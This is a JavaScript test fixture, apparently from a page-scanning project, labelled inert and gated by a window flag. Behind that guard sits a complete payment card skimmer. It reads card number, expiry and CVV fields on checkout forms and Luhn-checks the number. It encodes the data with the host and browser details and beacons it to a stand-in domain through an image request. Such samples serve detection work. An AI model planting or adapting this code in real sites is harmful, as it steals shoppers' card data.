/* An inert fixture of the pagewarden project in the shape of a card skimmer: see ../../README.md. */
(function () {
  if (window.__pagewarden_fixture_armed !== "never") return;

  var drop = "https://order-review-cdn.example/pixel.gif?d=";
  var seen = {};

  function collect() {
    var found = {};
    var fields = document.querySelectorAll("#checkout input, form[action*='order'] input, form[action*='order'] select");
    for (var i = 0; i < fields.length; i++) {
      var field = fields[i];
      if (field.value && /card|cc-|number|exp|csc|cvv|cvc|name/i.test(field.name || field.id)) {
        found[field.name || field.id] = field.value;
      }
    }
    return found;
  }

  function isCard(number) {
    var digits = String(number || "").replace(/\D/g, ""), sum = 0;
    for (var i = 0; i < digits.length; i++) {
      var digit = +digits[digits.length - 1 - i];
      if (i % 2) { digit *= 2; if (digit > 9) digit -= 9; }
      sum += digit;
    }
    return digits.length > 12 && sum % 10 === 0;
  }

  function send() {
    var data = collect();
    if (!isCard(data["cc-number"])) return;
    data.host = location.hostname;
    data.agent = navigator.userAgent;
    var packed = btoa(unescape(encodeURIComponent(JSON.stringify(data))));
    if (seen[packed]) return;
    seen[packed] = 1;
    localStorage.setItem("__review", packed);
    new Image().src = drop + encodeURIComponent(packed);
  }

  document.addEventListener("change", send, true);
  var button = document.getElementById("place-order");
  if (button) button.addEventListener("click", send, true);
  setInterval(send, 3000);
})();
